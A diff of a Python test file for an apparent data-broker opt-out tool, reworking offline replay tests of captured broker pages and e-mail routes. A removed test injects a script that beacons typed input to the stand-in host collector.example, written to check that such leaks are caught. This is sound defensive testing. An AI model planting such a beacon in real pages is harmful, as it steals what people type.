@@ -1,5 +1,6 @@
-"""Real brokers' pages (issue 12): every captured page that carries a form is replayed by a recipe's
-own test, and ``optout recipe check`` runs those tests offline.
+"""Real brokers' pages (issue 12), part B: e-mail routes named on a broker's page (``named_on``),
+and what the forms on the captures are for. (tests/test_real_page_forms.py checks that every
+captured page with a form is replayed by a recipe test, and runs them all.)
 
 The captures (The Markup / CalMatters, Apache-2.0) and their index.json live in the shared data
 folder; each recipe's fixture under brokers/fixtures/ is a byte-identical copy (credited in
@@ -16,11 +17,10 @@ import shutil
 from pathlib import Path
 
 import pytest
-import yaml
 
+from optout.errors import RecipeError
 from optout.recipe.check import check_recipes
 from optout.recipe.loader import load_catalogue, load_recipe
-from optout.errors import RecipeError
 from optout.settings import Settings
 
 from .conftest import requires_browser
@@ -28,19 +28,6 @@ from .conftest import requires_browser
 REAL = Path("/work/shared/data/real-pages")
 BROKERS = Path(__file__).resolve().parent.parent / "brokers"
 INDEX = json.loads((REAL / "index.json").read_text()) if (REAL / "index.json").is_file() else []
-WITH_FORMS = [e for e in INDEX if e["forms"]]
-
-
-def replaying_tests() -> dict[str, list[tuple[str, str]]]:
-    """``{fixture path under brokers/fixtures: [(recipe id, test name)]}`` for every ``flow: optout``
-    test of the hand-written recipes in brokers/."""
-    out: dict[str, list[tuple[str, str]]] = {}
-    for path in sorted(BROKERS.glob("*.yaml")):
-        data = yaml.safe_load(path.read_text(encoding="utf-8"))
-        for t in data.get("tests") or []:
-            if t.get("flow") == "optout" and t.get("page"):
-                out.setdefault(t["page"], []).append((data["id"], t["name"]))
-    return out
 
 
 def settings(tmp_path) -> Settings:
@@ -52,39 +39,16 @@ def rows_of(capsys) -> list[dict]:
     return json.loads("\n".join(lines[next(i for i, x in enumerate(lines) if x == "["):]))
 
 
-@pytest.mark.skipif(not INDEX, reason=f"the real-page captures are not on this machine ({REAL})")
-@pytest.mark.parametrize("entry", WITH_FORMS, ids=[e["file"] for e in WITH_FORMS])
-def test_every_real_page_with_a_form_is_replayed_by_a_recipe_test(entry):
-    real = (REAL / entry["file"]).read_bytes()
-    copies = [p.relative_to(BROKERS / "fixtures").as_posix() for p in (BROKERS / "fixtures").rglob("*.html")
-              if p.read_bytes() == real]
-    assert copies, f"no copy of {entry['file']} under brokers/fixtures/"
-    tests = replaying_tests()
-    assert any(c in tests for c in copies), f"no recipe's flow: optout test replays {copies}"
-
-
 E_MAIL_RECIPES = ["5x5coop", "comscore", "medprosystems"]
 
 
+@requires_browser
 async def test_the_e_mail_routes_hold_on_their_pages_offline(tmp_path, capsys):
-    """The http channel, no Chromium: the page still names the address, its forms get nothing."""
+    """Each page (its named_on) still names the address; its own forms get nothing, send nothing."""
     code = await check_recipes(load_catalogue([BROKERS]), E_MAIL_RECIPES, settings(tmp_path), as_json=True)
     rows = rows_of(capsys)
     assert code == 0, rows
     assert sorted(r["recipe"] for r in rows if r["result"] == "ok") == E_MAIL_RECIPES
-
-
-@requires_browser
-async def test_recipe_check_replays_every_real_form_page_offline(tmp_path, capsys):
-    """Every recipe whose test replays a real page passes ``recipe check``: served by the replay
-    (``optout.recipe.replay``), every request off the recipe's domains refused."""
-    ids = sorted({rid for tests in replaying_tests().values() for rid, _ in tests})
-    assert {"clientcommand", "uspeoplesearch", "brightcheck", "fourthwall", *E_MAIL_RECIPES} <= set(ids)
-    s = settings(tmp_path)
-    code = await check_recipes(load_catalogue([BROKERS]), ids, s, as_json=True)
-    rows = rows_of(capsys)
-    assert code == 0, [r for r in rows if r["result"] != "ok"]
-    assert {r["recipe"] for r in rows} == set(ids)
 
 
 def _medpro_variant(tmp_path, page_edit=None, recipe_edit=None) -> Path:
@@ -99,14 +63,15 @@ def _medpro_variant(tmp_path, page_edit=None, recipe_edit=None) -> Path:
     return d
 
 
+@requires_browser
 @pytest.mark.parametrize("edit, problem", [
     # the page no longer gives the address (the broker moved its requests elsewhere)
     (lambda html: html.replace("Privacy@MedProSystems.com", "a form on our new portal"),
-     "does not show the expected text 'Privacy@MedProSystems.com'"),
+     "the page does not show 'Privacy@MedProSystems.com'"),
     # the address is still in the HTML (and in each link's mailto:), but only where nobody sees it
     (lambda html: html.replace(">Privacy@MedProSystems.com</a>",
                                '><span style="display:none">Privacy@MedProSystems.com</span></a>'),
-     "does not show the expected text"),
+     "the page does not show 'Privacy@MedProSystems.com'"),
 ])
 async def test_an_e_mail_route_whose_page_changed_fails_its_test(tmp_path, capsys, edit, problem):
     d = _medpro_variant(tmp_path, page_edit=edit)
@@ -116,6 +81,7 @@ async def test_an_e_mail_route_whose_page_changed_fails_its_test(tmp_path, capsy
     assert problem in rows[0]["detail"]
 
 
+@requires_browser
 async def test_an_e_mail_route_test_that_would_fill_the_newsletter_fails(tmp_path, capsys):
     """The test's ``filled`` is not decoration: a field holding a value fails it (here the page was
     captured with a value in the newsletter's e-mail field)."""
@@ -193,21 +159,11 @@ def test_akismet_s_hidden_field_is_a_honeypot():
 
 
 @requires_browser
-@pytest.mark.parametrize("value, leaks", [("e.target.value", True), ("'typing'", False)])
-async def test_a_replayed_page_that_sends_the_person_s_values_elsewhere_fails_its_test(tmp_path, capsys, value, leaks):
-    """"Send only to declared hosts" is checked, not assumed: the USPeopleSearch capture with a
-    script that beacons what is typed to another host fails the recipe's test (the request itself
-    is blocked); the same beacon carrying nothing of the person's is blocked quietly."""
-    d = tmp_path / "brokers"
-    shutil.copytree(BROKERS / "fixtures" / "uspeoplesearch", d / "fixtures" / "uspeoplesearch")
-    shutil.copy(BROKERS / "uspeoplesearch.yaml", d)
-    page = d / "fixtures" / "uspeoplesearch" / "purge-my-data.html"
-    beacon = ("<script>document.addEventListener('input', e => navigator.sendBeacon("
-              f"'https://collector.example/c?v=' + encodeURIComponent({value})))</script></body>")
-    page.write_text(page.read_text(encoding="utf-8").replace("</body>", beacon, 1), encoding="utf-8")
-    code = await check_recipes(load_catalogue([d]), ["uspeoplesearch"], settings(tmp_path), as_json=True)
+async def test_an_e_mail_route_s_test_opens_its_named_on_page(tmp_path, capsys):
+    """With named_on the test reads that page, not whatever its url serves: a recipe pointing at
+    another page of the site fails its test even though the capture still names the address."""
+    d = _medpro_variant(tmp_path, recipe_edit=lambda t: t.replace(
+        "named_on: https://www.medprosystems.com/privacy-policy/", "named_on: https://www.medprosystems.com/privacy/"))
+    code = await check_recipes(load_catalogue([d]), ["medprosystems"], settings(tmp_path), as_json=True)
     rows = rows_of(capsys)
-    if leaks:
-        assert code == 1 and "send the person's data to collector.example" in rows[0]["detail"], rows
-    else:
-        assert code == 0, rows
+    assert code == 1 and "HTTP 404" in rows[0]["detail"], rows
